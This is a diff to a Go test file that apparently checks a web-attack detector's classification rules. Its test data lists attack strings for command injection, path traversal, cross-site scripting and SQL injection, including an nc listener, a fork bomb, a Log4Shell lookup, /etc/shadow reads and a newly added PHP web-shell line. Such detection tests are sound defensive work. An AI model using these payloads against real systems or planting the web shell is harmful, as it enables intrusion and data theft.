@@ -53,6 +53,7 @@ func TestDetectorClasses(t *testing.T) {
 			"; powershell -nop -c iex(x)", "w'h'o'am'i;", "who$()ami|", ";c\\at /etc/group", "ls${IFS}-la",
 			"a=nc&&$a -nlvp 555", "/???/??t /etc/group", "${jndi:ldap://x.example/a}", "f(){ f|f& };f",
 			"cat ${HOME:0:1}etc${HOME:0:1}group", "& FOR /F %G IN ('whoami') DO @echo %G",
+			";system('id')", "<?php passthru($_GET['c']); ?>", "__import__('os').popen('id')",
 		}},
 		{RuleCRLF, []string{
 			"/%0d%0aSet-Cookie:crlf=injection", "/%25250aSet-Cookie:crlf=injection", "%E5%98%8A%E5%98%8DSet-Cookie:x=1",
@@ -63,12 +64,13 @@ func TestDetectorClasses(t *testing.T) {
 			"%c0%2e%c0%2e/%c0%2e%c0%2e/etc/passwd", "%uff0e%uff0e%u2216/etc/passwd", `C:\boot.ini`, "/etc/shadow",
 			"/proc/self/environ", `C:\Windows\win.ini`, "WEB-INF/web.xml", "php://filter/convert.base64-encode/resource=index",
 			"file:///etc/hosts", "expect://id", "data:text/html;base64,PHNjcmlwdD4=", "..%e0%80%af..%e0%80%afboot.ini",
-			"/et*/pass?d", "/var/log/apache2/access.log",
+			"/et*/pass?d", "/var/log/apache2/access.log", "..%uefc8..%uefc8boot.ini",
 		}},
 		{RuleXSS, []string{
 			"<x%09onxxx=1", "<x/onxxx=1", "<svg%0Aonload=alert(1)>", "javascript:alert(1)//", "jav&#x09;ascript:alert(1)",
 			`" onmouseover="alert(1)`, "x onfocus=alert(1) autofocus", "alert`1`", "(alert)(1)", "[1].find(alert)",
 			"top['al'+'ert'](1)", `al\u0065rt(1)`, "alert&lpar;1&rpar;", "＜script＞alert(1)＜/script＞",
+			"onerror=alert;throw 1",
 		}},
 		{RuleSQLi, []string{
 			",(select * from (select(sleep(10)))a)", "'),NULL,NULL)%20waitfor%20delay%20'0:0:20'%20--", "’ or ‘1’=’1",
